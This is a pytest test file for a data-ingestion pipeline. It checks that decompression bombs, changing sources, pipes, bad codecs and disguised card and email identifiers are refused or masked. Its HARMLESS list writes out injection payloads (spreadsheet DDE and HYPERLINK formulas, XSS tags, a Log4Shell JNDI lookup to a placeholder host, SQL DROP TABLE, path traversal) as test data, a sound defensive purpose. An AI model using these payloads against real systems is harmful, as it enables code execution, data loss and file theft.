"""Sources that change, unpack without end or hold what breaks others: refused with a reason, or read as text."""

import encodings
import gzip
import io
import json
import os
import pkgutil
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from tempfile import SpooledTemporaryFile
from typing import IO

import pyarrow as pa
import pytest

from tasks.core.errors import InputError
from tasks.runs.pin import resolve_source
from tasks.sources import vault_keys
from tasks.sources.sources import Source
from tasks.stages.data.ingest import ingest, kept
from tasks.stages.data.readers import content, csv_reader, decoding
from tasks.stages.data.readers.kinds import READERS
from tasks.stages.data.readers.rows import Malformed, Row
from tests.stages.data import hostile
from tests.stages.data.build import Run, messages, params, source, table
from tests.stages.data.test_protect import PERSONAL, everything_written
from tests.stages.data.test_readers import parquet, refused

CSV = table(messages(40))


def left_behind(run: Run) -> list[Path]:
    """Files that are neither the vault's nor a piece's, or of no whole piece."""
    return [path for path in run.layout.state.rglob("*") if path.is_file() and path.parent.name not in ("keys", "src")
            and path.name != "vault.db"]  # fmt: skip


def test_a_source_that_changes_between_two_blocks_is_refused(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    """Its first block is as it was pinned, and the second no longer."""
    file = run.root / "data.csv"
    file.write_bytes(table(messages(20_000)))
    run.resolve(source("data.csv"))

    class Meddling(SpooledTemporaryFile[bytes]):
        """A copy during whose first write the source is changed."""

        def write(self, block: bytes) -> int:
            if self.tell() == 0:
                file.write_bytes(file.read_bytes().replace(b"message", b"MESSAGE"))
            return super().write(block)

    monkeypatch.setattr(content, "BLOCK", 1 << 16)
    monkeypatch.setattr(content, "SpooledTemporaryFile", Meddling)
    with pytest.raises(InputError, match="has changed since the run was resolved: expected SHA-256"):
        ingest.run(params(), run.layout)
    assert not run.layout.stage("ingest").exists() and not left_behind(run)


def test_a_source_that_changes_while_it_is_parsed_is_read_as_it_was_pinned(
    run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = run.root / "data.csv"
    file.write_bytes(CSV)
    run.resolve(source("data.csv"))

    def disturbed(pinned: IO[bytes], declared: Source) -> Iterator[Row | Malformed]:
        for row in csv_reader.read(pinned, declared):
            file.write_bytes(b"text,label\nsomething else,no\n")
            yield row

    monkeypatch.setitem(READERS, "csv", disturbed)
    assert ingest.run(params(), run.layout).counts.records == 40
    assert resolve_source(source("data.csv"), run.root).sha256 != run.result("ingest")["sources"][0]["sha256"]


@pytest.mark.parametrize("in_memory", [1 << 26, 1])
@pytest.mark.parametrize("kind", ["csv", "jsonl", "parquet"])
def test_a_copy_on_the_disk_is_read_as_one_in_memory_and_has_no_name(
    run: Run, monkeypatch: pytest.MonkeyPatch, kind: str, in_memory: int
) -> None:
    monkeypatch.setattr(content, "IN_MEMORY", in_memory)
    rows = messages(600)
    lines = "".join(json.dumps(row) + "\n" for row in rows).encode()
    data = {"csv": gzip.compress(table(rows)), "jsonl": gzip.compress(lines), "parquet": parquet(rows)}[kind]
    (run.root / "data").write_bytes(data)
    run.resolve(source("data", kind=kind))
    seen: list[Path] = []

    def looking(pinned: IO[bytes], declared: Source) -> Iterator[Row | Malformed]:
        for row in reader(pinned, declared):
            seen.extend(left_behind(run) if row.number == 300 else ())
            yield row

    reader = READERS[kind]
    monkeypatch.setitem(READERS, kind, looking)
    assert ingest.run(params(), run.layout).counts.records == 600
    assert not [path for path in seen if kept.folder(run.layout) not in path.parents]


@pytest.mark.parametrize("kind", ["csv", "jsonl"])
@pytest.mark.parametrize("members", [1, 300])
def test_gzip_that_unpacks_without_end_is_refused(run: Run, kind: str, members: int) -> None:
    bomb = gzip.compress(b"\n" * (30_000_000 // members)) * members
    assert len(bomb) < 200_000
    message = refused(run, bomb, kind=kind, max_unpacked_bytes=1_000_000)
    assert "src: data.csv unpacks to more than max_unpacked_bytes allows, 1,000,000; if that is no accident" in message
    assert not left_behind(run)


def test_gzip_up_to_the_limit_is_read(run: Run) -> None:
    packed = gzip.compress(CSV[:200]) + gzip.compress(CSV[200:])
    assert run.ingest(packed, max_unpacked_bytes=len(CSV)).counts.records == 40
    assert "unpacks to more" in refused_anew(run, packed, max_unpacked_bytes=len(CSV) - 1)


def refused_anew(run: Run, data: bytes, **fields: object) -> str:
    with pytest.raises(InputError) as caught:
        run.ingest(data, **fields)
    return str(caught.value)


@pytest.mark.parametrize("harm", [lambda data: data[:-30], lambda data: data[:200] + b"\0" * 40 + data[240:]])
def test_damaged_gzip_is_refused(run: Run, harm) -> None:  # type: ignore[no-untyped-def]
    message = refused(run, harm(gzip.compress(table(messages(500)))))
    assert "truncated" in message or "damaged gzip" in message


def test_parquet_whose_footer_claims_too_much_is_refused_before_it_is_read(run: Run) -> None:
    bomb = parquet(pa.table({"text": [f"{n}" + "x" * 50_000 for n in range(400)], "label": ["y"] * 400}))
    assert len(bomb) < 2_000_000
    assert "unpacks to more than max_unpacked_bytes" in refused(run, bomb, kind="parquet", max_unpacked_bytes=1 << 22)


def test_parquet_whose_dictionary_makes_much_of_little_is_refused(run: Run) -> None:
    bomb = hostile.rows(hostile.repeated("x" * 10_000, 20_000))
    assert len(bomb) < 100_000
    assert "unpacks to more than max_unpacked_bytes" in refused(run, bomb, kind="parquet", max_unpacked_bytes=1 << 25)


def test_columns_that_no_mapping_names_count_for_nothing(run: Run) -> None:
    rows = pa.table({"text": ["a", "b"], "label": ["x", "y"], "scan": ["z" * 5_000_000, "w"]})
    assert run.ingest(parquet(rows), kind="parquet", max_unpacked_bytes=1_000_000).counts.records == 2


HARMLESS = [
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://x.example","click")',
    "+SUM(A1:A9)",
    "@import url(//x.example)",
    "-2+3",
    "<script>alert(1)</script> my card is blocked",
    "<img src=x onerror=alert(1)>",
    "{{ 7 * 7 }} ${jndi:ldap://x.example/a} %s %(name)s {0}",
    "'; DROP TABLE hallmark_vault; --",
    "../../etc/passwd \\\\server\\share",
    "مرحبا، بطاقتي لا تعمل",
    "שלום, הכרטיס שלי לא עובד",
    "👩‍👩‍👧‍👦 who may use this card?",
    "zażółć gęślą jaźń",
    "Z̷̢̛a̸l̶g̵o̷ text",
]


def test_formulas_markup_and_any_script_stay_the_text_they_are(run: Run) -> None:
    run.ingest(table([{"text": text, "label": "x"} for text in HARMLESS]))
    assert [record["messages"][0]["content"] for record in run.records_of("ingest")] == HARMLESS


CARD, MAIL = "4111 1111 1111 1111", "ada@example.org"
DISGUISED = {
    "nul": f"card {CARD[:7]}\0{CARD[7:]}",
    "line": f"card {CARD[:9]}\n{CARD[10:]}",
    "zero width joiners": "card " + "\u200d".join(CARD),
    "right to left": f"رقم البطاقة \u202d{CARD}\u202c",
    "digits of another script": "بطاقة ٤١١١ ١١١١ ١١١١ ١١١١",
    "full width": "card ４１１１ １１１１ １１１１ １１１１",
    "homoglyph": "mail \u0430da@example.org",  # a Cyrillic a
    "url": f"https://x.example/u?email={MAIL.replace('@', '%40')}&lang=en",
    "code": f"user = User(email='{MAIL}')  # {MAIL}",
    "script": f"<script>send('{MAIL}')</script>",
    "formula": f'=HYPERLINK("mailto:{MAIL}","{CARD}")',
    "combining": "mail me: Jose\u0301 Garci\u0301a, jose@example.org",
}


def test_disguised_identifiers_are_protected_on_the_way_in(run: Run) -> None:
    run.ingest(table([{"text": text, "label": "x"} for text in DISGUISED.values()]))
    texts = [record["messages"][0]["content"] for record in run.records_of("ingest")]
    assert len(texts) == len(DISGUISED)
    for name, text in zip(DISGUISED, texts, strict=True):
        assert "[card:" in text or "[email:" in text, name
        assert "example.org" not in text and "1111" not in text and "١١١١" not in text and "１１１１" not in text, name
    assert b"1111 1111" not in everything_written(run.layout.stage("ingest"))


def test_a_text_of_thousands_of_words_is_protected_or_put_aside_and_never_let_through(run: Run) -> None:
    text = "The parcel has not arrived yet, and nobody answers. " * 4_000 + f"Mail {MAIL}"
    run.ingest(table([{"text": text, "label": "x"}, *messages(3)]))
    kept_text = [r["messages"][0]["content"] for r in run.records_of("ingest") if len(r["messages"][0]["content"]) > 99]
    assert run.rules_of("ingest") == {1: "undetectable"} or "Mail [email:" in kept_text[0]
    assert MAIL.encode() not in everything_written(run.layout.stage("ingest"))


def test_rows_of_several_encodings_are_told_apart(run: Run) -> None:
    good = table([{"text": f"größer {number}", "label": "ja"} for number in range(60)])
    run.ingest(good + "schöner,ja\n".encode("cp1252") + "nein \ud83d,ja\n".encode("utf-8", "surrogatepass"))
    assert run.rules_of("ingest") == {61: "undecodable", 62: "undecodable"}


def test_a_lost_key_leaves_nothing_written(run: Run) -> None:
    (run.root / "data.csv").write_bytes(table(PERSONAL))
    run.resolve(source("data.csv"))
    ingest.run(params(), run.layout)
    before = everything_written(run.layout.stage("ingest"))
    (run.layout.state / vault_keys.FILE).unlink()
    with pytest.raises(InputError, match="restore it"):
        ingest.run(params(), run.layout)
    assert everything_written(run.layout.stage("ingest")) == before


def pipe(path: Path) -> None:
    os.mkfifo(path)


def loop(path: Path) -> None:
    path.symlink_to(path)


@pytest.mark.parametrize(("make", "said"), [(pipe, "a pipe or a device"), (loop, "cannot be opened")])
def test_what_is_no_file_is_refused_and_not_waited_for(tmp_path: Path, make, said: str) -> None:  # type: ignore[no-untyped-def]
    make(tmp_path / "odd")
    with pytest.raises(InputError, match=said):
        resolve_source(source("odd"), tmp_path)


@pytest.mark.parametrize("location", ["a\0b", "a" * 5000, "~nobody-of-this-name/x", "data.csv/x"])
def test_a_location_that_leads_nowhere_is_refused(tmp_path: Path, location: str) -> None:
    (tmp_path / "data.csv").write_bytes(CSV)
    with pytest.raises(InputError, match="source src: "):
        resolve_source(source(location), tmp_path)


def test_every_codec_of_python_reads_a_source_or_is_refused_in_words() -> None:
    for _, encoding, _ in pkgutil.iter_modules(encodings.__path__):
        for text in (CSV, "text,label\nGr\xfc\xdfe,a\n".encode("latin-1"), "text,label\nGrüße - hallo,a\n".encode()):
            with suppress(InputError):
                decoding.text(io.BytesIO(text), source("data.csv", encoding=encoding)).read()


@pytest.mark.parametrize("encoding", ["idna", "undefined", "utf\0-8"])
def test_a_codec_that_is_not_for_files_is_refused(run: Run, encoding: str) -> None:
    with pytest.raises(InputError, match="not a Python text codec"):
        run.ingest(CSV, encoding=encoding)


def test_a_number_of_endless_digits_costs_its_row_alone(run: Run) -> None:
    rows = [json.dumps({"text": f"message {n}", "label": "a"}) for n in range(30)]
    rows[3] = '{"text": ' + "9" * 10_000 + ', "label": "a"}'
    run.ingest("\n".join([*rows, ""]).encode(), "data.jsonl", kind="jsonl")
    assert run.rules_of("ingest") == {4: "not_json"}


@pytest.mark.parametrize("field", ["retention_days", "refresh_days"])
def test_days_beyond_any_calendar_are_refused(field: str) -> None:
    with pytest.raises(ValueError, match="less than or equal to 365000"):
        source("data.csv", **{field: 10_000_000})


@pytest.mark.parametrize("authority", [10**25, -(10**25)])
def test_an_authority_that_no_table_holds_is_refused(authority: int) -> None:
    with pytest.raises(ValueError, match=r"than or equal to -?1000000"):
        source("data.csv", authority=authority)


@pytest.mark.parametrize("document", [b"{", b'{"terms": {"trade_secret": "Halcyon"}}', None])
def test_pinned_sources_that_cannot_be_read_are_said(run: Run, document: bytes | None) -> None:
    run.ingest(CSV)
    run.layout.sources.unlink()
    if document is not None:
        run.layout.sources.write_bytes(document)
    with pytest.raises(InputError, match="cannot be read") as told:
        ingest.run(params(), run.layout)
    assert "Halcyon" not in str(told.value)
